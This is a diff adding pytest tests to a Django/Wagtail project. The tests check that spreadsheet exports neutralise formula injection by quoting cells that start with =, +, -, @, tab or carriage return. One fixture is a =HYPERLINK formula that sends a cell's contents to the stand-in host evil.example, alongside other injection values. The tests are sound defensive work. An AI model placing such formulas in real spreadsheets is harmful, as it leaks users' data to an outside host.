@@ -5,6 +5,7 @@ bombs and huge images uploaded through the admin) and 16 (``import_content``
 reading attachment paths outside the import file's folder) of issue 13.
 """
 
+import io
 import json
 import shutil
 from io import StringIO
@@ -12,10 +13,15 @@ from pathlib import Path
 
 import pytest
 from django.core.management import CommandError, call_command
+from django.urls import reverse
 from django.utils import translation
+from openpyxl import load_workbook
 from wagtail.documents import get_document_model
 
 from content_types.models import PartyDocument
+from editorial.factories import MemberFactory
+from editorial.spreadsheets import text_cells
+from tests.content_types.test_study import publish_module
 
 FIXTURES = Path(__file__).parents[1] / "content_types" / "files" / "archive" / "files"
 Document = get_document_model()
@@ -112,3 +118,50 @@ def test_import_still_reads_attachments_inside_the_folder(unit_tree, import_fold
         "ke-hoach-12",
         "nghi-quyet-05",
     ]
+
+
+# --- finding 7: formulas in spreadsheet downloads --------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"Xem chi tiết")'
+
+
+def test_text_cells_quote_formula_starts_and_keep_numbers():
+    """issue 13 #7: the one rule every export writes its rows with."""
+    values = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "Hà Nội", "", -5, 0.5, None]
+    assert text_cells(values) == [
+        "'" + HYPERLINK,
+        "'+1+1",
+        "'-2+3",
+        "'@SUM(A1)",
+        "'\t=1",
+        "'\r=1",
+        "Hà Nội",
+        "",
+        -5,
+        0.5,
+        None,
+    ]
+
+
+def test_study_report_download_writes_no_formula(client, unit_tree, board_user):
+    """issue 13 #7: a unit named ``=HYPERLINK(...)`` and a module titled
+    ``@SUM(...)`` come out of the study-report download as text, not as
+    formulas; the counts stay numbers."""
+    unit_tree.grassroots.name = HYPERLINK
+    unit_tree.grassroots.save()
+    publish_module(unit_tree.district, "@SUM(1+1) Nghị quyết", lessons=1)
+    MemberFactory(branch=unit_tree.branch)
+    client.force_login(board_user(unit_tree.district))
+
+    response = client.get(reverse("study_report_xlsx"), {"unit": "DT"})
+
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert cells and all(cell.data_type != "f" for cell in cells)
+    names = {row[1]: row[0] for row in sheet.iter_rows(min_row=2, values_only=True)}
+    assert names["DT-X1"] == "'" + HYPERLINK
+    header = next(sheet.iter_rows(values_only=True))
+    assert header[3].startswith("'@SUM(1+1) Nghị quyết")
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == "DT-X1")
+    assert row[2].value == 1 and row[2].data_type == "n"
